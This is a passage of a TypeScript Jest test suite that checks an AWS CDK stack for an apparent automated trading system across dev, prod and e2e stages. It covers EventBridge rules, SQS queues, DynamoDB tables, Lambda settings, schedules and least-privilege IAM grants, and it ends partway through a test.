import { Match, Template } from 'aws-cdk-lib/assertions';
import { LIMIT_ALARMS } from '../lib/alarms';
import { ruleNameFor } from '../lib/routing-rules';
import { rustSourceOf, sourcesOf, specOf, typesPublishedBy } from '../lib/routing-table';
import {
  ROUTES,
  RUST_SOURCES,
  allStatements,
  asList,
  buildStack,
  joinedText,
  onlyResource,
  referencedId,
  renderInputTemplate,
  resourceById,
  resourcesOf,
  templateFor,
  type PolicyProperties,
  type RoleProperties,
  type Statement,
} from './helpers';

const HANDLERS = ROUTES.handlers;
const PYTHON_SOURCES = new Set(ROUTES.routes.flatMap((r) => r.producers.filter((p) => p.language === 'python').map((p) => p.source)));
/** What the registry says of a handler (lib/events/src/registry.rs, in routes.json). */
const needsOf = (handler: string) => specOf(ROUTES, handler).needs;
/** The handlers that publish what `handler` consumes (from the specs): the signers it verifies. */
const signersOf = (handler: string) =>
  ROUTES.specs.filter((s) => s.produces.some((t) => specOf(ROUTES, handler).consumes.includes(t))).map((s) => s.handler);
/** The X-Ray statement CDK adds for active tracing: the only Allow on "*" (X-Ray has no resource-level permissions). */
const XRAY_STATEMENT = { Effect: 'Allow', Action: ['xray:PutTelemetryRecords', 'xray:PutTraceSegments'], Resource: '*' };

/** The properties of an `AWS::Lambda::Function` the tests read. */
interface FunctionProperties {
  readonly Runtime: string;
  readonly Handler: string;
  readonly Architectures: string[];
  readonly MemorySize: number;
  readonly Timeout: number;
  readonly LoggingConfig?: unknown;
  readonly Role: unknown;
  readonly TracingConfig?: unknown;
  readonly Environment: { readonly Variables: Record<string, unknown> };
}

/** The properties of an `AWS::Events::Rule` the tests read. */
interface RuleProperties {
  readonly EventBusName: unknown;
  readonly EventPattern: unknown;
  readonly State: string;
  readonly Targets: unknown[];
}

interface StageCase {
  readonly stage: string;
  readonly rulesEnabled: boolean;
  readonly scheduleEnabled: boolean;
  readonly broker: 'alpaca' | 'paper';
  readonly architecture: 'arm64' | 'x86_64';
  readonly retained: boolean;
}

const STAGES: StageCase[] = [
  { stage: 'dev', rulesEnabled: false, scheduleEnabled: false, broker: 'alpaca', architecture: 'arm64', retained: false },
  { stage: 'prod', rulesEnabled: true, scheduleEnabled: true, broker: 'alpaca', architecture: 'arm64', retained: true },
  { stage: 'e2e', rulesEnabled: true, scheduleEnabled: false, broker: 'paper', architecture: 'x86_64', retained: false },
];

describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, broker, architecture, retained }) => {
  let template: Template;
  beforeAll(() => {
    template = templateFor({ stage });
  });

  const busId = () => onlyResource(template, 'AWS::Events::EventBus', { Name: `alchemiser-trading-events-${stage}` })[0];
  const dlqId = () => onlyResource(template, 'AWS::SQS::Queue', { QueueName: `alchemiser-event-dlq-${stage}` })[0];
  const outboxId = () => onlyResource(template, 'AWS::SQS::Queue', { QueueName: `alchemiser-event-outbox-${stage}` })[0];
  const followUpsId = () => onlyResource(template, 'AWS::SQS::Queue', { QueueName: `alchemiser-order-follow-up-${stage}` })[0];
  const tableId = () => onlyResource(template, 'AWS::DynamoDB::Table', { TableName: `alchemiser-idempotency-${stage}` })[0];
  const ledgerId = () => onlyResource(template, 'AWS::DynamoDB::Table', { TableName: `alchemiser-workflow-ledger-${stage}` })[0];
  const ruleId = (name: string) => onlyResource(template, 'AWS::Events::Rule', { Name: name })[0];
  const secretId = () => onlyResource(template, 'AWS::SecretsManager::Secret', { Name: `alchemiser/${stage}/broker` })[0];
  const functionOf = (handler: string) =>
    onlyResource<FunctionProperties>(template, 'AWS::Lambda::Function', { FunctionName: `alchemiser-${handler}-${stage}` });
  /** The notification key (the topics' encryption key), found by its alias. */
  const notificationKeyId = () =>
    referencedId(
      onlyResource<{ TargetKeyId: unknown }>(template, 'AWS::KMS::Alias', { AliasName: `alias/alchemiser-notifications-${stage}` })[1].Properties
        .TargetKeyId,
    );
  const signingKeyId = (signer: string) =>
    referencedId(
      onlyResource<{ TargetKeyId: unknown }>(template, 'AWS::KMS::Alias', { AliasName: `alias/alchemiser-${stage}-${signer}-signing` })[1].Properties
        .TargetKeyId,
    );

  describe('event bus and archive', () => {
    test('bus is named for the stage; its policy is one statement per resource (bus-policy.test.ts)', () => {
      for (const policy of Object.values(resourcesOf<{ EventBusName: unknown }>(template, 'AWS::Events::EventBusPolicy'))) {
        expect(policy.Properties.EventBusName).toEqual({ Ref: busId() });
      }
    });

    test('archive keeps exactly the Rust sources for 365 days (no Python owner on this stage)', () => {
      template.resourceCountIs('AWS::Events::Archive', 1);
      template.hasResourceProperties('AWS::Events::Archive', {
        ArchiveName: `alchemiser-event-archive-${stage}`,
        RetentionDays: 365,
        SourceArn: { 'Fn::GetAtt': [busId(), 'Arn'] },
        EventPattern: { source: RUST_SOURCES },
      });
    });
  });

  describe('queues', () => {
    test.each(['dlq', 'outbox'])('%s: 14 days, SSE, TLS only', (kind) => {
      const [id] = onlyResource(template, 'AWS::SQS::Queue', {
        QueueName: `alchemiser-event-${kind}-${stage}`,
        MessageRetentionPeriod: 14 * 24 * 3600,
        SqsManagedSseEnabled: true,
      });
      template.hasResourceProperties('AWS::SQS::QueuePolicy', {
        Queues: [{ Ref: id }],
        PolicyDocument: {
          Statement: Match.arrayWith([
            Match.objectLike({
              Effect: 'Deny',
              Action: 'sqs:*',
              Condition: { Bool: { 'aws:SecureTransport': 'false' } },
            }),
          ]),
        },
      });
      template.hasResource('AWS::SQS::Queue', {
        Properties: { QueueName: `alchemiser-event-${kind}-${stage}` },
        DeletionPolicy: retained ? 'Retain' : 'Delete',
      });
    });

    test('order follow-ups: SSE-SQS, TLS only, visibility 180 s, to the DLQ after 5 receives', () => {
      const queue = resourceById<{ RedrivePolicy: unknown; VisibilityTimeout: number; SqsManagedSseEnabled: boolean }>(template, followUpsId());
      expect(queue.Properties.VisibilityTimeout).toBe(180);
      expect(queue.Properties.SqsManagedSseEnabled).toBe(true);
      expect(queue.Properties.RedrivePolicy).toEqual({ deadLetterTargetArn: { 'Fn::GetAtt': [dlqId(), 'Arn'] }, maxReceiveCount: 5 });
      expect(queue.DeletionPolicy).toBe(retained ? 'Retain' : 'Delete');
      template.hasResourceProperties('AWS::SQS::QueuePolicy', {
        Queues: [{ Ref: followUpsId() }],
        PolicyDocument: {
          Statement: [Match.objectLike({ Effect: 'Deny', Action: 'sqs:*', Condition: { Bool: { 'aws:SecureTransport': 'false' } } })],
        },
      });
    });

    test(`order follow-ups reach execution one at a time, with partial batch responses, ${rulesEnabled ? 'enabled' : 'disabled'} with the rules`, () => {
      const [, mapping] = onlyResource<Record<string, unknown>>(template, 'AWS::Lambda::EventSourceMapping');
      expect(mapping.Properties).toEqual({
        FunctionName: { Ref: functionOf('execution')[0] },
        EventSourceArn: { 'Fn::GetAtt': [followUpsId(), 'Arn'] },
        BatchSize: 1,
        FunctionResponseTypes: ['ReportBatchItemFailures'],
        Enabled: rulesEnabled,
        Tags: expect.anything() as unknown,
      });
      // The mapping is created after the role's policy: CloudFormation checks the permissions then.
      const dependsOn = (template.toJSON() as { Resources: Record<string, { Type: string; DependsOn?: string[] }> }).Resources;
      const esm = Object.values(dependsOn).find((r) => r.Type === 'AWS::Lambda::EventSourceMapping');
      const roleId = referencedId(functionOf('execution')[1].Properties.Role);
      expect(esm?.DependsOn).toEqual(expect.arrayContaining([roleId, expect.stringMatching(/^HandlerexecutionRoleDefaultPolicy/) as unknown]));
    });

    test('the DLQ accepts SendMessage from each rule, and only from the rules', () => {
      const dlq = dlqId();
      const ruleIds = Object.keys(template.findResources('AWS::Events::Rule'));
      const [, policy] = onlyResource<PolicyProperties>(template, 'AWS::SQS::QueuePolicy', { Queues: [{ Ref: dlq }] });
      const allows = (policy.Properties.PolicyDocument.Statement as Statement[]).filter((s) => s.Effect === 'Allow');
      expect(allows).toHaveLength(ruleIds.length);
      for (const s of allows) {
        expect(s.Principal).toEqual({ Service: 'events.amazonaws.com' });
        expect(s.Action).toBe('sqs:SendMessage');
        expect(referencedId(s.Resource)).toBe(dlq);
        expect(ruleIds).toContain(referencedId(s.Condition?.ArnEquals['aws:SourceArn']));
      }
    });
  });

  describe('tables', () => {
    test('idempotency table: pk string key, TTL expires_at, on demand, PITR', () => {
      template.hasResource('AWS::DynamoDB::Table', {
        Properties: {
          TableName: `alchemiser-idempotency-${stage}`,
          KeySchema: [{ AttributeName: 'pk', KeyType: 'HASH' }],
          AttributeDefinitions: [{ AttributeName: 'pk', AttributeType: 'S' }],
          TimeToLiveSpecification: { AttributeName: 'expires_at', Enabled: true },
          BillingMode: 'PAY_PER_REQUEST',
          PointInTimeRecoverySpecification: { PointInTimeRecoveryEnabled: true },
          SSESpecification: Match.absent(),
        },
        DeletionPolicy: retained ? 'Retain' : 'Delete',
      });
    });

    test('workflow ledger: pk/sk, by_start and the sparse open_by_start index (ALL), TTL, on demand, PITR, encrypted as the idempotency table', () => {
      template.hasResource('AWS::DynamoDB::Table', {
        Properties: {
          TableName: `alchemiser-workflow-ledger-${stage}`,
          KeySchema: [
            { AttributeName: 'pk', KeyType: 'HASH' },
            { AttributeName: 'sk', KeyType: 'RANGE' },
          ],
          AttributeDefinitions: Match.arrayEquals([
            { AttributeName: 'pk', AttributeType: 'S' },
            { AttributeName: 'sk', AttributeType: 'S' },
            { AttributeName: 'gsi1pk', AttributeType: 'S' },
            { AttributeName: 'gsi1sk', AttributeType: 'S' },
            { AttributeName: 'gsi2pk', AttributeType: 'S' },
            { AttributeName: 'gsi2sk', AttributeType: 'S' },
          ]),
          GlobalSecondaryIndexes: [
            {
              IndexName: 'by_start',
              KeySchema: [
                { AttributeName: 'gsi1pk', KeyType: 'HASH' },
                { AttributeName: 'gsi1sk', KeyType: 'RANGE' },
              ],
              Projection: { ProjectionType: 'ALL' },
            },
            {
              IndexName: 'open_by_start',
              KeySchema: [
                { AttributeName: 'gsi2pk', KeyType: 'HASH' },
                { AttributeName: 'gsi2sk', KeyType: 'RANGE' },
              ],
              Projection: { ProjectionType: 'ALL' },
            },
          ],
          TimeToLiveSpecification: { AttributeName: 'expires_at', Enabled: true },
          BillingMode: 'PAY_PER_REQUEST',
          PointInTimeRecoverySpecification: { PointInTimeRecoveryEnabled: true },
          SSESpecification: Match.absent(),
        },
        DeletionPolicy: retained ? 'Retain' : 'Delete',
      });
    });
  });

  test('broker secret is created with a generated placeholder, never a value in the template', () => {
    template.hasResourceProperties('AWS::SecretsManager::Secret', {
      Name: `alchemiser/${stage}/broker`,
      GenerateSecretString: Match.objectLike({ GenerateStringKey: 'placeholder' }),
      SecretString: Match.absent(),
    });
  });

  describe('functions', () => {
    test('one function per handler of the routing table, and no other', () => {
      template.resourceCountIs('AWS::Lambda::Function', HANDLERS.length);
    });

    test.each(HANDLERS)(
      `%s: provided.al2023, bootstrap, ${architecture}, its spec's memory and timeout, X-Ray active, own role and log group`,
      (handler) => {
        const [, fn] = functionOf(handler);
        const p = fn.Properties;
        expect(p.Runtime).toBe('provided.al2023');
        expect(p.Handler).toBe('bootstrap');
        expect(p.Architectures).toEqual([architecture]);
        expect(p.MemorySize).toBe(specOf(ROUTES, handler).memory_mb);
        expect(p.Timeout).toBe(specOf(ROUTES, handler).timeout_seconds);
        expect(p.TracingConfig).toEqual({ Mode: 'Active' });

        const [logsId] = onlyResource(template, 'AWS::Logs::LogGroup', { LogGroupName: `/aws/lambda/alchemiser-${handler}-${stage}` });
        expect(p.LoggingConfig).toEqual({ LogGroup: { Ref: logsId } });
        const logGroup = resourceById(template, logsId);
        expect(logGroup.Properties.RetentionInDays).toEqual(expect.any(Number));
        expect(logGroup.DeletionPolicy).toBe(retained ? 'Retain' : 'Delete');

        const role = resourceById<RoleProperties>(template, referencedId(p.Role));
        expect(role.Type).toBe('AWS::IAM::Role');
        expect(role.Properties.ManagedPolicyArns).toBeUndefined();
        expect(role.Properties.AssumeRolePolicyDocument.Statement).toEqual([
          { Action: 'sts:AssumeRole', Effect: 'Allow', Principal: { Service: 'lambda.amazonaws.com' } },
        ]);
      },
    );

    test('no role uses a managed policy (AWSLambdaBasicExecutionRole or any other)', () => {
      for (const role of Object.values(resourcesOf<RoleProperties>(template, 'AWS::IAM::Role'))) {
        expect(role.Properties.ManagedPolicyArns).toBeUndefined();
      }
    });

    test.each(HANDLERS)('%s: environment variables the Rust code reads', (handler) => {
      const [, fn] = functionOf(handler);
      const env = fn.Properties.Environment.Variables;
      const expected: Record<string, unknown> = {
        STAGE: stage,
        ALCHEMISER_MODE: 'live',
        USE_EVENTBRIDGE: 'true',
        EVENTBRIDGE_BUS_NAME: { Ref: busId() },
        EVENTBRIDGE_VERIFY_BUS: 'true',
        EVENTBRIDGE_SOURCE_PREFIX: 'alchemiser',
        DEAD_LETTER_QUEUE_URL: { Ref: dlqId() },
        EVENTBRIDGE_OUTBOX_QUEUE_URL: { Ref: outboxId() },
        IDEMPOTENCY_TABLE_NAME: { Ref: tableId() },
        RUST_LOG: 'info',
        // Its value, signer by signer: signing-keys.test.ts.
        VERIFY_KEY_IDS: expect.anything() as unknown,
        // No Python owner on these stages: every event must be signed.
        UNSIGNED_SOURCES: '',
      };
      if (typesPublishedBy(ROUTES, handler).length > 0) expected.SIGNING_KEY_ID = { 'Fn::GetAtt': [signingKeyId(handler), 'Arn'] };
      // The value of each variable a need brings on this stage (which variables: registry.test.ts).
      const needValues: Record<string, unknown> = {
        BROKER: broker,
        BROKER_SECRET_NAME: `alchemiser/${stage}/broker`,
        ALLOW_REPLAY_EXECUTION: 'false',
        FOLLOW_UP_QUEUE_URL: { Ref: followUpsId() },
        STRATEGY_ALLOCATION: JSON.stringify({ SPY: '0.6', TLT: '0.4' }),
        STRATEGY_RUN_AT: '{"anchor":"close","offsetMinutes":15}',
        TRADING_HALT_PARAMETER: `/alchemiser/${stage}/trading-halt`,
        WORKFLOW_DEADLINE_SECONDS: '1800',
        LEDGER_TABLE_NAME: { Ref: ledgerId() },
        LEDGER_RETENTION_DAYS: '90',
        // No consumer is a shadow on these stages: the sweep fails workflows from every dead letter.
        SHADOW_FUNCTIONS: '',
        // config/stages.json: prod's conservative limits, decimals as strings; other stages set none.
        ...(stage === 'prod'
          ? { MAX_ORDER_NOTIONAL: '25000', MAX_PLAN_TURNOVER: '1.0', MAX_DAILY_BUY_NOTIONAL: '100000', MAX_DAILY_ORDERS: '40', MAX_FAILED_SELL_NOTIONAL: '500' }
          : {}),
      };
      for (const variable of specOf(ROUTES, handler).variables) {
        if (variable in needValues) expected[variable] = needValues[variable];
      }
      if (stage === 'e2e') {
        expected.PAPER_BROKER_STATE = '/tmp/alchemiser-e2e-paper-broker.json';
        // LocalStack's DynamoDB is forwarded to moto; the functions talk to moto directly (localstack-plugins/README.md).
        expected.AWS_ENDPOINT_URL_DYNAMODB = 'http://127.0.0.1:5050';
        // LocalStack's limits are the pre-2026 256 KiB.
        expected.EVENTBRIDGE_MAX_REQUEST_BYTES = '262144';
        expected.DEAD_LETTER_QUEUE_MAX_BYTES = '262144';
      }
      expect(env).toEqual(expected);
    });

    test.each(HANDLERS)('%s: async invoke retries twice, then sends the event to the DLQ', (handler) => {
      const [fnId] = functionOf(handler);
      template.hasResourceProperties('AWS::Lambda::EventInvokeConfig', {
        FunctionName: { Ref: fnId },
        Qualifier: '$LATEST',
        MaximumRetryAttempts: 2,
        MaximumEventAgeInSeconds: 2 * 3600,
        DestinationConfig: { OnFailure: { Destination: { 'Fn::GetAtt': [dlqId(), 'Arn'] } } },
      });
    });
  });

  describe('rules, one per consuming handler of the routing table', () => {
    test('exactly the rules of routes.json, and the notification rule', () => {
      const names = Object.values(resourcesOf<{ Name: string }>(template, 'AWS::Events::Rule')).map((r) => r.Properties.Name);
      expect(names.sort()).toEqual(
        [...ROUTES.rules.map((r) => `${r.name}-${stage}`), `alchemiser-notify-workflow-failed-${stage}`].sort(),
      );
    });

    test.each(ROUTES.rules.map((r) => [r.handler, r] as const))(
      '%s: pattern {source: sources, detail-type: types}, the handler as only target, retry policy, DLQ',
      (handler, spec) => {
        const [fnId] = functionOf(handler);
        const [, rule] = onlyResource<RuleProperties>(template, 'AWS::Events::Rule', { Name: ruleNameFor(spec, stage) });
        const p = rule.Properties;
        expect(p.EventBusName).toEqual({ Ref: busId() });
        // No Python owner on these stages: the routing table's Python sources are left out.
        expect(p.EventPattern).toEqual({ source: spec.sources.filter((s) => !PYTHON_SOURCES.has(s)), 'detail-type': spec.event_types });
        expect(p.State).toBe(rulesEnabled ? 'ENABLED' : 'DISABLED');
        expect(p.Targets).toEqual([
          {
            Id: expect.any(String) as unknown,
            Arn: { 'Fn::GetAtt': [fnId, 'Arn'] },
            RetryPolicy: { MaximumEventAgeInSeconds: 2 * 3600, MaximumRetryAttempts: 50 },
            DeadLetterConfig: { Arn: { 'Fn::GetAtt': [dlqId(), 'Arn'] } },
          },
        ]);
      },
    );

    test('each rule may invoke its handler, and nothing else may', () => {
      const permissions = Object.values(template.findResources('AWS::Lambda::Permission'));
      expect(permissions).toHaveLength(ROUTES.rules.length);
      for (const spec of ROUTES.rules) {
        const [fnId] = functionOf(spec.handler);
        expect(permissions).toContainEqual(
          expect.objectContaining({
            Properties: {
              Action: 'lambda:InvokeFunction',
              FunctionName: { 'Fn::GetAtt': [fnId, 'Arn'] },
              Principal: 'events.amazonaws.com',
              SourceArn: { 'Fn::GetAtt': [ruleId(ruleNameFor(spec, stage)), 'Arn'] },
            },
          }),
        );
      }
    });

    test('a stage name that makes a rule name longer than 64 characters fails with the name', () => {
      const stem = 'x'.repeat(64 - `-${stage}`.length);
      expect(ruleNameFor({ ...ROUTES.rules[0], name: stem }, stage)).toHaveLength(64);
      expect(() => ruleNameFor({ ...ROUTES.rules[0], name: `${stem}x` }, stage)).toThrow(/longer than EventBridge's 64 characters/);
    });
  });

  describe('schedules', () => {
    /** The schedule named `name`, its role's policy statements and its role's trust statements. */
    const scheduleOf = (name: string) => {
      const [, schedule] = onlyResource<{ Target: { RoleArn: unknown; Input: unknown } }>(template, 'AWS::Scheduler::Schedule', { Name: name });
      const roleId = referencedId(schedule.Properties.Target.RoleArn);
      const [, policy] = onlyResource<PolicyProperties>(template, 'AWS::IAM::Policy', { Roles: [{ Ref: roleId }] });
      const trust = resourceById<RoleProperties>(template, roleId).Properties.AssumeRolePolicyDocument.Statement;
      return { schedule, statements: policy.Properties.PolicyDocument.Statement, trust };
    };

    test('one schedule per handler whose spec has one (the strategy and the workflow sweep)', () => {
      template.resourceCountIs('AWS::Scheduler::Schedule', ROUTES.specs.filter((s) => s.schedule !== null).length);
      expect(ROUTES.specs.filter((s) => s.schedule !== null).map((s) => s.handler)).toEqual(expect.arrayContaining(['strategy', 'monitor']));
    });

    test(`strategy: 15 minutes before the regular and the early close, New York, weekdays, ${scheduleEnabled ? 'enabled' : 'disabled'}, DLQ`, () => {
      template.hasResourceProperties('AWS::Scheduler::Schedule', {
        Name: `alchemiser-strategy-${stage}`,
        ScheduleExpression: 'cron(45 12,15 ? * MON-FRI *)',
        ScheduleExpressionTimezone: 'America/New_York',
        FlexibleTimeWindow: { Mode: 'OFF' },
        State: scheduleEnabled ? 'ENABLED' : 'DISABLED',
        Target: Match.objectLike({
          Arn: { 'Fn::GetAtt': [functionOf('strategy')[0], 'Arn'] },
          DeadLetterConfig: { Arn: { 'Fn::GetAtt': [dlqId(), 'Arn'] } },
          RetryPolicy: { MaximumEventAgeInSeconds: 2 * 3600, MaximumRetryAttempts: 50 },
        }),
      });
    });

    test(`sweep: every 5 minutes, invokes the monitor, ${rulesEnabled ? 'enabled' : 'disabled'} with the rules, DLQ`, () => {
      template.hasResourceProperties('AWS::Scheduler::Schedule', {
        Name: `alchemiser-workflow-sweep-${stage}`,
        ScheduleExpression: 'rate(5 minutes)',
        FlexibleTimeWindow: { Mode: 'OFF' },
        State: rulesEnabled ? 'ENABLED' : 'DISABLED',
        Target: Match.objectLike({
          Arn: { 'Fn::GetAtt': [functionOf('monitor')[0], 'Arn'] },
          DeadLetterConfig: { Arn: { 'Fn::GetAtt': [dlqId(), 'Arn'] } },
          // An older sweep is superseded by the next one.
          RetryPolicy: { MaximumEventAgeInSeconds: 300, MaximumRetryAttempts: 50 },
        }),
      });
    });

    test.each(['strategy', 'workflow-sweep'])('%s: the same Scheduler envelope as an EventBridge event, with the execution id as id', (schedule) => {
      const input = JSON.parse(joinedText(scheduleOf(`alchemiser-${schedule}-${stage}`).schedule.Properties.Target.Input)) as Record<string, unknown>;
      expect(input).toEqual({
        version: '0',
        id: '<aws.scheduler.execution-id>',
        'detail-type': 'Scheduled Event',
        source: 'aws.scheduler',
        account: 'Ref:AWS::AccountId',
        time: '<aws.scheduler.scheduled-time>',
        region: expect.any(String) as unknown,
        resources: ['<aws.scheduler.schedule-arn>'],
        detail: {},
      });
    });

    test.each([
      ['strategy', 'strategy'],
      ['workflow-sweep', 'monitor'],
    ])('%s role: invoke its function ($LATEST only) and write to the DLQ, assumable for this schedule only', (schedule, handler) => {
      const { statements, trust } = scheduleOf(`alchemiser-${schedule}-${stage}`);
      expect(statements).toEqual([
        { Sid: 'InvokeScheduledFunction', Effect: 'Allow', Action: 'lambda:InvokeFunction', Resource: { 'Fn::GetAtt': [functionOf(handler)[0], 'Arn'] } },
        { Sid: 'RecordUndeliveredInDeadLetterQueue', Effect: 'Allow', Action: 'sqs:SendMessage', Resource: { 'Fn::GetAtt': [dlqId(), 'Arn'] } },
      ]);
      const sourceArn = JSON.stringify(asList(trust)[0]?.Condition?.StringEquals['aws:SourceArn']);
      expect(trust).toEqual([
        expect.objectContaining({
          Principal: { Service: 'scheduler.amazonaws.com' },
          Condition: { StringEquals: { 'aws:SourceAccount': { Ref: 'AWS::AccountId' }, 'aws:SourceArn': expect.anything() as unknown } },
        }),
      ]);
      expect(sourceArn).toContain(`:schedule/default/alchemiser-${schedule}-${stage}`);
    });
  });

  describe('IAM: least privilege, every grant on one resource', () => {
    /** A statement of a function's role, with its resource as a logical id (or "*"). */
    interface Grant {
      readonly sid: string;
      readonly actions: string[];
      readonly resource: string;
      readonly condition?: unknown;
    }
    /** The statements of the role of `handler`. */
    const grantsOf = (handler: string): Grant[] => {
      const [, fn] = functionOf(handler);
      const roleId = referencedId(fn.Properties.Role);
      const policies = Object.values(resourcesOf<PolicyProperties>(template, 'AWS::IAM::Policy')).filter((p) =>
        p.Properties.Roles.some((r) => referencedId(r) === roleId),
      );
      expect(policies).toHaveLength(1);
      return (policies[0].Properties.PolicyDocument.Statement as Statement[]).map((s) => {
        const resources = asList<unknown>(s.Resource);
        expect(resources).toHaveLength(1); // one resource ARN per grant
        expect(s.Effect).toBe('Allow');
        const resource = resources[0] === '*' ? '*' : resourceKey(resources[0]);
        const grant: Grant = { sid: s.Sid ?? (resource === '*' ? 'xray' : 'logs'), actions: [...asList<string>(s.Action)].sort(), resource };
        return s.Condition === undefined ? grant : { ...grant, condition: s.Condition };
      });
    };
    /** A resource as `<logical id>` or, for an ARN built with Fn::Join (an index), `<logical id><suffix>`. */
    const resourceKey = (resource: unknown): string => {
      const join = (resource as { 'Fn::Join'?: [string, unknown[]] })['Fn::Join'];
      return join === undefined ? referencedId(resource) : join[1].map((part) => (typeof part === 'string' ? part : referencedId(part))).join('');
    };
    const byId = (a: Grant, b: Grant) => a.sid.localeCompare(b.sid);

    test.each(HANDLERS)('%s: exactly the statements it needs', (handler) => {
      const [logsId] = onlyResource(template, 'AWS::Logs::LogGroup', { LogGroupName: `/aws/lambda/alchemiser-${handler}-${stage}` });
      const expected: Grant[] = [
        { sid: 'logs', actions: ['logs:CreateLogStream', 'logs:PutLogEvents'], resource: logsId },
        { sid: 'xray', actions: ['xray:PutTelemetryRecords', 'xray:PutTraceSegments'], resource: '*' },
        { sid: 'RecordFailuresInDeadLetterQueue', actions: ['sqs:SendMessage'], resource: dlqId() },
        { sid: 'VerifyEventBusExists', actions: ['events:DescribeEventBus'], resource: busId() },
        {
          sid: 'IdempotencyStoreOwnKeys',
          actions: ['dynamodb:DeleteItem', 'dynamodb:GetItem', 'dynamodb:PutItem', 'dynamodb:UpdateItem'],
          resource: tableId(),
          condition: {
            'ForAllValues:StringLike': { 'dynamodb:LeadingKeys': [`${handler}#*`, `lease#${handler}#*`] },
            Null: { 'dynamodb:LeadingKeys': 'false' },
          },
        },
      ];
      if (typesPublishedBy(ROUTES, handler).length > 0) {
        expected.push(
          {
            sid: 'PublishOwnEventsToEventBus',
            actions: ['events:PutEvents'],
            resource: busId(),
            condition: {
              'ForAllValues:StringEquals': { 'events:source': [`alchemiser.${handler}`], 'events:detail-type': typesPublishedBy(ROUTES, handler) },
              Null: { 'events:source': 'false', 'events:detail-type': 'false' },
            },
          },
          { sid: 'ParkUndeliveredEventsInOutbox', actions: ['sqs:SendMessage'], resource: outboxId() },
          { sid: 'SignOwnEvents', actions: ['kms:GenerateMac'], resource: signingKeyId(handler) },
        );
      }
      for (const signer of signersOf(handler)) {
        const sid = `VerifySignaturesOf${signer.charAt(0).toUpperCase()}${signer.slice(1)}`;
        expected.push({ sid, actions: ['kms:VerifyMac'], resource: signingKeyId(signer) });
      }
      if (needsOf(handler).includes('broker')) {
        expected.push({ sid: 'ReadBrokerSecret', actions: ['secretsmanager:DescribeSecret', 'secretsmanager:GetSecretValue'], resource: secretId() });
      }
      if (needsOf(handler).includes('trading_halt')) {
        const halt = onlyResource(template, 'AWS::SSM::Parameter', { Name: `/alchemiser/${stage}/trading-halt` })[0];
        expected.push({ sid: 'ReadTradingHalt', actions: ['ssm:GetParameter'], resource: `arn:AWS::Partition:ssm:AWS::Region:AWS::AccountId:parameter${halt}` });
      }
      if (needsOf(handler).includes('order_follow_ups')) {
        expected.push(
          { sid: 'SendOrderFollowUps', actions: ['sqs:SendMessage'], resource: followUpsId() },
          {
            sid: 'ConsumeOrderFollowUps',
            actions: ['sqs:ChangeMessageVisibility', 'sqs:DeleteMessage', 'sqs:GetQueueAttributes', 'sqs:ReceiveMessage'],
            resource: followUpsId(),
          },
        );
      }
      if (needsOf(handler).includes('workflow_ledger')) {
        expected.push(
          {
            sid: 'KeepWorkflowLedger',
            actions: ['dynamodb:GetItem', 'dynamodb:PutItem', 'dynamodb:Query', 'dynamodb:UpdateItem'],
            resource: ledgerId(),
          },
          { sid: 'ListWorkflowsByStart', actions: ['dynamodb:Query'], resource: `${ledgerId()}/index/by_start` },
          { sid: 'SweepOpenWorkflows', actions: ['dynamodb:Query'], resource: `${ledgerId()}/index/open_by_start` },
        );
      }
      if (needsOf(handler).includes('dead_letters')) {
        expected.push(
          {
            sid: 'PeekDeadLetterQueue',
            // No ChangeMessageVisibility: the monitor cannot keep dead letters out of sight.
            actions: ['sqs:GetQueueAttributes', 'sqs:ReceiveMessage'],
            resource: dlqId(),
          },
        );
      }
      expect(grantsOf(handler).sort(byId)).toEqual(expected.sort(byId));
    });

    test('each function may publish only its own source and the types it produces: no one can forge another step', () => {
      expect(typesPublishedBy(ROUTES, 'monitor')).toEqual(['WorkflowFailed']);
      for (const handler of HANDLERS) {
        const publish = grantsOf(handler).find((g) => g.actions.includes('events:PutEvents'));
        const allowed = (publish?.condition as { 'ForAllValues:StringEquals': Record<string, string[]> })['ForAllValues:StringEquals'];
        expect(allowed['events:source']).toEqual([rustSourceOf(ROUTES, handler)]);
        // RebalancePlanned only from portfolio; TradeExecuted and WorkflowCompleted only from execution.
        expect(allowed['events:detail-type'].includes('RebalancePlanned')).toBe(handler === 'portfolio');
        expect(allowed['events:detail-type'].includes('WorkflowCompleted')).toBe(handler === 'execution');
      }
    });

    test('only the handlers that need the broker (strategy, portfolio, execution) can read its secret; the operator may put new keys', () => {
      const secret = secretId();
      const readers = Object.entries(resourcesOf<PolicyProperties>(template, 'AWS::IAM::Policy'))
        .filter(([, p]) => JSON.stringify(p.Properties.PolicyDocument).includes(`"${secret}"`))
        .flatMap(([, p]) => p.Properties.Roles.map(referencedId));
      const roleOf = (handler: string) => referencedId(functionOf(handler)[1].Properties.Role);
      // IAM: the broker users' roles read; the operator role only writes (PutSecretValue, DescribeSecret).
      const operator = onlyResource(template, 'AWS::IAM::Role', { RoleName: `alchemiser-operator-${stage}` })[0];
      const brokerUsers = HANDLERS.filter((h) => needsOf(h).includes('broker'));
      // The strategy reads the broker's calendar (read-only in its code: Alpaca has no read-only keys).
      expect(brokerUsers).toEqual(expect.arrayContaining(['strategy', 'portfolio', 'execution']));
      expect(readers.sort()).toEqual([operator, ...brokerUsers.map(roleOf)].sort());
      const operatorGrant = allStatements(template).find((s) => s.statement.Sid === 'PutBrokerKeys')?.statement;
      expect([...asList(operatorGrant?.Action)].sort()).toEqual(['secretsmanager:DescribeSecret', 'secretsmanager:PutSecretValue']);
      // The resource policy: everyone else is denied GetSecretValue, whatever IAM grants them.
      const [, policy] = onlyResource<{ SecretId: unknown; ResourcePolicy: { Statement: Statement[] } }>(
        template,
        'AWS::SecretsManager::ResourcePolicy',
      );
      expect(policy.Properties.SecretId).toEqual({ Ref: secret });
      expect(policy.Properties.ResourcePolicy.Statement).toEqual([
        {
          Sid: 'OnlyBrokerUsersReadTheKeys',
          Effect: 'Deny',
          Principal: { AWS: '*' },
          Action: 'secretsmanager:GetSecretValue',
          Resource: '*',
          Condition: {
            ArnNotEquals: { 'aws:PrincipalArn': brokerUsers.map((h) => ({ 'Fn::GetAtt': [roleOf(h), 'Arn'] })) },
          },
        },
      ]);
    });

    test('no Allow statement has a "*" action or resource, but X-Ray\'s and the key policy\'s "this key"', () => {
      // The TLS-only queue/topic policies deny sqs:*/sns:* to every principal over plain HTTP, which is what
      // a wildcard is for; X-Ray's two write actions take no resource; in a key policy "*" means the key itself.
      const statements = allStatements(template);
      expect(statements.length).toBeGreaterThan(10);
      for (const { from, statement } of statements) {
